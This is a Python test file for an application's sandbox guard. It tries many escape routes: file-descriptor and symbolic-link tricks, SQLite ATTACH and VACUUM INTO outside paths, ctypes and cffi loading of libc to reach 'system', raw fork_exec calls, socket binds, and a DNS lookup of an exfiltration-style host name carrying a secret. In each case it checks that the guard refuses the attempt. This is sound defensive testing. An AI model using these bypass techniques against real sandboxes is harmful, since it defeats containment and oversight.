"""Routes around the guard that raised nothing before ("Trust core under attack", item 5).

Each test attacks an installed guard in a fresh interpreter (see ``guard_support``)
and checks both that the guard refused and that nothing happened outside the data
folder. Every one of them failed against the guard before this file existed.
"""

from __future__ import annotations

import json
import os
from pathlib import Path

from guard_support import run_guarded, violation


def test_descriptor_relative_and_relative_write_opens_are_refused(tmp_path: Path) -> None:
    out = run_guarded(
        """
        outside_fd = os.open(outside, os.O_RDONLY)
        data_fd = os.open(data, os.O_RDONLY)
        flags = os.O_WRONLY | os.O_CREAT
        attempt("dir_fd_outside", lambda: os.close(os.open("x.txt", flags, dir_fd=outside_fd)))
        attempt("dir_fd_inside", lambda: os.close(os.open("x.txt", flags, dir_fd=data_fd)))
        attempt("relative_in_data_cwd", lambda: write("rel.txt"))  # the working folder is data
        attempt("opener", lambda: open("y.txt", "w", opener=lambda p, f: os.open(p, f, dir_fd=outside_fd)))
        attempt("absolute_with_dir_fd", lambda: os.close(os.open(data / "abs.txt", flags, dir_fd=outside_fd)))
        attempt("fchmod_outside", lambda: os.chmod(os.open(outside / "keep.txt", os.O_RDONLY), 0o777))
        attempt("remove_dir_fd_outside", lambda: os.remove("keep.txt", dir_fd=outside_fd))
        attempt("read_relative", lambda: open("../outside/keep.txt").read())
        """,
        tmp_path,
        before='(outside / "keep.txt").write_text("keep")\nos.chdir(data)\n',
    )
    for name in ("dir_fd_outside", "dir_fd_inside", "relative_in_data_cwd", "opener"):
        assert violation(out[name]), name
    assert "relative path opened for writing: x.txt" in str(out["dir_fd_outside"])
    assert violation(out["fchmod_outside"])
    assert violation(out["remove_dir_fd_outside"])
    assert out["absolute_with_dir_fd"] == "ok"  # an absolute path ignores dir_fd
    assert out["read_relative"] == "ok"
    assert sorted(p.name for p in (tmp_path / "outside").iterdir()) == ["keep.txt"]
    assert (tmp_path / "outside" / "keep.txt").stat().st_mode & 0o777 != 0o777


def test_links_renames_and_symlinks_check_both_ends(tmp_path: Path) -> None:
    out = run_guarded(
        """
        target = outside / "victim.txt"
        attempt("hard_link_in", lambda: os.link(target, data / "x"))
        attempt("write_through_link", lambda: write(data / "x"))  # only if the link was made
        attempt("hard_link_out", lambda: os.link(data / "own.txt", outside / "copy"))
        attempt("symlink_in", lambda: os.symlink(target, data / "l"))
        attempt("symlink_relative", lambda: os.symlink("../outside/victim.txt", data / "r"))
        attempt("symlink_dotdot_dir", lambda: os.symlink("..", data / "up"))
        attempt("symlink_inside", lambda: os.symlink("own.txt", data / "ok-link"))
        attempt("rename_in", lambda: os.rename(target, data / "stolen"))
        attempt("replace_out", lambda: os.replace(data / "own.txt", outside / "moved"))
        attempt("link_inside", lambda: os.link(data / "own.txt", data / "twin"))
        """,
        tmp_path,
        before='(outside / "victim.txt").write_text("keep")\n(data / "own.txt").write_text("mine")\n',
    )
    for name in ("hard_link_in", "hard_link_out", "symlink_in", "symlink_relative", "symlink_dotdot_dir"):
        assert violation(out[name]), name
    for name in ("rename_in", "replace_out"):
        assert violation(out[name]), name
    assert "link target outside the data folder" in str(out["symlink_relative"])
    assert out["write_through_link"] == "ok"  # a plain new file: the link was never made
    assert out["symlink_inside"] == "ok"
    assert out["link_inside"] == "ok"
    assert (tmp_path / "outside" / "victim.txt").read_text() == "keep"
    assert sorted(p.name for p in (tmp_path / "outside").iterdir()) == ["victim.txt"]


def test_sqlite_outside_the_data_folder_is_refused_at_connect_attach_and_vacuum(tmp_path: Path) -> None:
    out = run_guarded(
        """
        attempt("connect_outside", lambda: sqlite3.connect(outside / "x.db"))
        attempt("connect_uri_outside", lambda: sqlite3.connect(f"file:{outside}/u.db?mode=rwc", uri=True))
        db = sqlite3.connect(data / "app.db")
        db.execute("create table t (x)")
        db.execute("insert into t values (1)")
        db.commit()
        attempt("vacuum_into_outside", lambda: db.execute(f"VACUUM INTO '{outside}/copy.db'"))
        attempt("vacuum_into_bound", lambda: db.execute("VACUUM INTO ?", (str(outside / "bound.db"),)))
        attempt("attach_outside", lambda: db.execute(f"ATTACH '{outside}/a.db' AS a"))
        attempt("attach_computed", lambda: db.execute("ATTACH ? AS b", (str(outside / "b.db"),)))
        attempt("vacuum_into_inside", lambda: db.execute(f"VACUUM INTO '{data}/copy.db'"))
        attempt("attach_inside", lambda: db.execute(f"ATTACH '{data}/side.db' AS side"))
        attempt("attach_memory", lambda: db.execute("ATTACH ':memory:' AS m"))
        attempt("vacuum", lambda: db.execute("VACUUM"))
        attempt("memory", lambda: sqlite3.connect(":memory:").execute("select 1"))
        attempt("bypass_class", lambda: sqlite3.Connection(":memory:"))
        import _sqlite3
        attempt("bypass_module", lambda: _sqlite3.connect(":memory:"))
        attempt("remove_authorizer", lambda: db.set_authorizer(None))  # documented: not seen
        """,
        tmp_path,
    )
    for name in ("connect_outside", "connect_uri_outside"):
        assert violation(out[name]), name
    for name in ("vacuum_into_outside", "vacuum_into_bound", "attach_outside", "attach_computed"):
        assert out[name] == "DatabaseError", name  # the authorizer's refusal ("not authorized")
    for name in ("vacuum_into_inside", "attach_inside", "attach_memory", "vacuum", "memory"):
        assert out[name] == "ok", name
    for name in ("bypass_class", "bypass_module"):  # a connection without the authorizer
        assert violation(out[name]), name
    assert out["remove_authorizer"] == "ok"
    assert list((tmp_path / "outside").iterdir()) == []
    reported = out["reported"]
    assert isinstance(reported, list)
    assert sum(r.startswith("sqlite3.attach") for r in reported) == 4
    assert out["violations"] == 8


def test_native_libraries_load_only_from_the_allowlist(tmp_path: Path) -> None:
    out = run_guarded(
        """
        import ctypes, importlib.util
        flags = os.O_WRONLY | os.O_CREAT
        def libc_open():
            libc = ctypes.CDLL("libc.so.6")
            libc.open(str(outside / "c.txt").encode(), flags, 0o644)
        attempt("libc", libc_open)
        attempt("main_program", lambda: ctypes.CDLL(None).open)
        attempt("pythonapi_lookup", lambda: ctypes.pythonapi.system)
        attempt("cdll_loader", lambda: ctypes.cdll.LoadLibrary("libc.so.6"))
        import _ctypes
        attempt("raw_handle", lambda: _ctypes.dlsym(ctypes.pythonapi._handle, "system"))
        folder = importlib.util.find_spec("gpt4all").submodule_search_locations[0]
        llmodel = ctypes.CDLL(os.path.join(folder, "llmodel_DO_NOT_MODIFY", "build", "libllmodel.so"))
        attempt("allowed_symbol", lambda: llmodel.llmodel_model_create2)
        attempt("dependency_symbol", lambda: llmodel.system)
        import _cffi_backend
        attempt("cffi_load_library", lambda: _cffi_backend.load_library("libc.so.6"))
        attempt("cffi_ffi_dlopen", lambda: _cffi_backend.FFI().dlopen(None))
        attempt("cffi_package", lambda: __import__("cffi"))
        attempt("vosk", lambda: __import__("vosk"))  # allowlisted: libvosk.so through cffi
        """,
        tmp_path,
    )
    for name in (
        "libc",
        "main_program",
        "pythonapi_lookup",
        "cdll_loader",
        "raw_handle",
        "dependency_symbol",
    ):
        assert violation(out[name]), name
    for name in ("cffi_load_library", "cffi_ffi_dlopen", "cffi_package"):
        assert violation(out[name]), name
    assert out["allowed_symbol"] == "ok"
    assert out["vosk"] == "ok"
    assert "loading libc.so.6 (not on the native-library allowlist)" in str(out["libc"])
    assert "looking up system in libllmodel.so" in str(out["dependency_symbol"])
    assert list((tmp_path / "outside").iterdir()) == []


def test_every_process_start_route_is_refused(tmp_path: Path) -> None:
    out = run_guarded(
        """
        import multiprocessing, _posixsubprocess
        def spawn(method):
            child = multiprocessing.get_context(method).Process(target=print)
            child.start()
            child.join()
        attempt("mp_spawn", lambda: spawn("spawn"))
        attempt("mp_fork", lambda: spawn("fork"))
        attempt("mp_forkserver", lambda: spawn("forkserver"))
        def fork():
            if os.fork() == 0:  # only reached without the guard: the child must not run the rest
                os._exit(0)
        attempt("fork", fork)
        attempt("spawnv", lambda: os.spawnv(os.P_WAIT, "/bin/true", ["true"]))
        r, w = os.pipe()
        def raw_fork_exec():
            _posixsubprocess.fork_exec(
                [b"/bin/touch", str(outside / "raw").encode()], [b"/bin/touch"], True, (w,), None, None,
                -1, -1, -1, -1, -1, -1, r, w, False, False, -1, None, None, None, -1, None, True,
            )
        attempt("fork_exec", raw_fork_exec)
        attempt("subprocess_fork_exec", lambda: subprocess._fork_exec(*[None] * 23))
        def reimport():
            del sys.modules["_posixsubprocess"]
            import _posixsubprocess
        attempt("reimport", reimport)
        with guard.effector():
            attempt("effector_subprocess", lambda: subprocess.run(["true"], check=True))
        """,
        tmp_path,
    )
    for name in ("mp_spawn", "mp_fork", "mp_forkserver", "fork", "spawnv", "fork_exec"):
        assert violation(out[name]), name
    assert violation(out["subprocess_fork_exec"])
    assert violation(out["reimport"])
    assert out["fork_exec"] == "GuardViolation: _posixsubprocess.fork_exec: starting touch"
    assert out["effector_subprocess"] == "ok"
    assert list((tmp_path / "outside").iterdir()) == []


def _session_env(tmp_path: Path) -> dict[str, str]:
    display = 40000 + os.getpid() % 20000  # an abstract X socket name no real server uses
    bus = f"unix:path={tmp_path / 'bus'},guid=0;unix:abstract=aether-test-{os.getpid()}"
    return {
        "DBUS_SESSION_BUS_ADDRESS": bus,
        "PULSE_SERVER": f"unix:{tmp_path / 'pulse'}",
        "XDG_RUNTIME_DIR": str(tmp_path),
        "DISPLAY": f":{display}.0",
    }


def test_sockets_listen_and_connect_only_where_the_session_lives(tmp_path: Path) -> None:
    env = _session_env(tmp_path)
    out = run_guarded(
        f"""
        def connect(address):
            with socket.socket(socket.AF_UNIX) as client:
                client.connect(address)
        attempt("bus", lambda: connect(str(Path({str(tmp_path)!r}) / "bus")))
        attempt("bus_abstract", lambda: connect("\\0aether-test-{os.getpid()}"))
        attempt("pulse", lambda: connect(str(Path({str(tmp_path)!r}) / "pulse")))
        attempt("x_abstract", lambda: connect("\\0/tmp/.X11-unix/X{env["DISPLAY"][1:-2]}"))
        attempt("own_socket", lambda: connect(str(data / "own.sock")))
        attempt("other_abstract", lambda: connect(b"\\0some-other-service"))
        def bind(family, address):
            with socket.socket(family) as server:
                server.bind(address)
        attempt("bind_any", lambda: bind(socket.AF_INET, ("0.0.0.0", 0)))
        attempt("bind_empty", lambda: bind(socket.AF_INET, ("", 0)))
        attempt("bind_any6", lambda: bind(socket.AF_INET6, ("::", 0)))
        attempt("bind_loopback", lambda: bind(socket.AF_INET, ("127.0.0.1", 0)))
        attempt("bind_unix_outside", lambda: bind(socket.AF_UNIX, str(outside / "s.sock")))
        attempt("bind_abstract", lambda: bind(socket.AF_UNIX, "\\0aether-listener"))
        attempt("bind_unix_data", lambda: bind(socket.AF_UNIX, str(data / "mine.sock")))
        """,
        tmp_path,
        before=f"""
        servers = []
        for address in (
            str(Path({str(tmp_path)!r}) / "bus"),
            "\\0aether-test-{os.getpid()}",
            str(Path({str(tmp_path)!r}) / "pulse"),
            "\\0/tmp/.X11-unix/X{env["DISPLAY"][1:-2]}",
            str(data / "own.sock"),
            "\\0some-other-service",
        ):
            server = socket.socket(socket.AF_UNIX)
            server.bind(address)
            server.listen()
            servers.append(server)
        """,
        env=env,
    )
    for name in ("bus", "bus_abstract", "pulse", "x_abstract", "bind_loopback", "bind_unix_data"):
        assert out[name] == "ok", name
    for name in ("own_socket", "other_abstract", "bind_any", "bind_empty", "bind_any6"):
        assert violation(out[name]), name
    for name in ("bind_unix_outside", "bind_abstract"):
        assert violation(out[name]), name
    assert list((tmp_path / "outside").iterdir()) == []


def test_name_resolution_is_refused_except_for_loopback(tmp_path: Path) -> None:
    out = run_guarded(
        """
        attempt("getaddrinfo", lambda: socket.getaddrinfo("hunter2.exfil.example.com", 443))
        attempt("gethostbyname", lambda: socket.gethostbyname("example.com"))
        attempt("gethostbyname_ex", lambda: socket.gethostbyname_ex("example.com"))
        attempt("gethostbyaddr", lambda: socket.gethostbyaddr("192.0.2.1"))
        attempt("getnameinfo", lambda: socket.getnameinfo(("192.0.2.1", 53), 0))
        attempt("literal", lambda: socket.getaddrinfo("192.0.2.1", 80))
        attempt("create_connection", lambda: socket.create_connection(("example.com", 80), timeout=1))
        attempt("localhost", lambda: socket.getaddrinfo("localhost", 80))
        attempt("loopback", lambda: socket.getaddrinfo("127.0.0.1", 80))
        attempt("loopback6", lambda: socket.getaddrinfo("::1", 80))
        attempt("passive", lambda: socket.getaddrinfo(None, 80))
        attempt("hostname", socket.gethostname)
        """,
        tmp_path,
    )
    for name in ("getaddrinfo", "gethostbyname", "gethostbyname_ex", "gethostbyaddr", "getnameinfo"):
        assert violation(out[name]), name
    assert violation(out["literal"])
    assert violation(out["create_connection"])
    for name in ("localhost", "loopback", "loopback6", "passive", "hostname"):
        assert out[name] == "ok", name
    assert "hunter2" not in json.dumps(out)
    assert "resolving *.example.com" in str(out["getaddrinfo"])


def test_changing_the_working_folder_is_refused(tmp_path: Path) -> None:
    out = run_guarded(
        """
        start = os.getcwd()
        attempt("chdir", lambda: os.chdir(outside))
        attempt("chdir_data", lambda: os.chdir(data))
        attempt("fchdir", lambda: os.fchdir(os.open(outside, os.O_RDONLY)))
        results["same_cwd"] = os.getcwd() == start
        """,
        tmp_path,
    )
    for name in ("chdir", "chdir_data", "fchdir"):
        assert violation(out[name]), name
    assert out["same_cwd"] is True


def test_the_guard_cannot_be_switched_off(tmp_path: Path) -> None:
    out = run_guarded(
        """
        def flip():
            guard.enabled = False
        attempt("set_enabled", flip)
        attempt("disable", guard.disable)
        guard._armed = False
        guard._rules = None
        attempt("write_after", lambda: write(outside / "x.txt"))
        results["enabled"] = guard.enabled
        """,
        tmp_path,
    )
    assert out["set_enabled"] == "AttributeError"
    assert violation(out["disable"])
    assert violation(out["write_after"])
    assert out["enabled"] is True
    assert list((tmp_path / "outside").iterdir()) == []


def test_sqlcipher_obeys_the_same_rules_as_sqlite(tmp_path: Path) -> None:
    """SQLCipher's ``connect`` raises no audit event: without its wrapper it wrote anywhere."""
    out = run_guarded(
        """
        from sqlcipher3 import dbapi2 as sqlcipher
        import sqlcipher3
        make = "create table t (x)"
        attempt("connect_outside", lambda: sqlcipher.connect(str(outside / "x.db")).execute(make))
        attempt("top_level_outside", lambda: sqlcipher3.connect(str(outside / "y.db")).execute(make))
        db = sqlcipher.connect(str(data / "app.db"))
        db.execute("PRAGMA key = 'k'")
        db.execute("create table t (x)")
        attempt("attach_outside", lambda: db.execute(f"ATTACH '{outside}/a.db' AS a KEY 'k'"))
        attempt("export_outside", lambda: db.execute(f"VACUUM INTO '{outside}/copy.db'"))
        attempt("attach_inside", lambda: db.execute(f"ATTACH '{data}/side.db' AS side KEY 'k'"))
        """,
        tmp_path,
    )
    for name in ("connect_outside", "top_level_outside"):
        assert violation(out[name]), name
    for name in ("attach_outside", "export_outside"):
        assert out[name] == "DatabaseError", name
    assert out["attach_inside"] == "ok"
    assert list((tmp_path / "outside").iterdir()) == []
